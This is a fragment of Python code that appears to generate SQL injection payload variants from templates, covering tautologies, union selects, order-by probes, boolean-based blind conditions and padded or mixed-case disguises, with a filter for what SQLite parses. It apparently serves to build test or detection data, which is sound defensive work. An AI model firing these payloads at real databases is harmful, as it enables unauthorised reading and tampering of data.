        "«rnd»' or '«rnd:a»'='«rnd:a»",
        "«n»' order by 1-- «rnd»",
        "(select (case when («n:a»=«n:a») then «n» else «n»*(select «n» from information_schema.plugins) end))",
        "«n» rlike (select (case when («n:a»=«n:a») then 1 else 0x28 end))",
        "iif(«n:a»=«n:a»,«n»,1/0)",
        "«n» and make_set(«n:a»=«n:a»,«n»)",
        "«n»-- «rnd»",
        then=sometimes(mixed_case, 0.2),
    )
    g.family(
        "padded",
        "«w» «w» «w» «w» «w»' union select «columns»«cut»",
        "a long text about «w» and «w», with a price of «n» dollars' or «true»«cut»",
        "«n»,«n»,«n»,«n»,«n» union select «columns»«from»«end»",
        "«w»' and «n»=«n» and «n»<«n» and 'x'<>'y' and (1)=(1) union select «columns»«cut»",
        "Conan O''Brien' and «question»«cut»",
        "«w» «w»: «n», «n» and «n»' or «question»«cut»",
        then=dressed,
    )
    for family in g.families:
        if family.name in ("tautology-number", "tautology-string", "boolean-string", "union-number", "order-by"):
            # Of these some spellings only make sense by chance; others have grammar that SQLite does not know.
            family.check = lambda value: (
                parses(value) or any(mark in value for mark in ("&&", "xor", "#", "rlike", "@", "like", "div", "`", "\\", "%", "+", "\0"))
            )
    return [g]
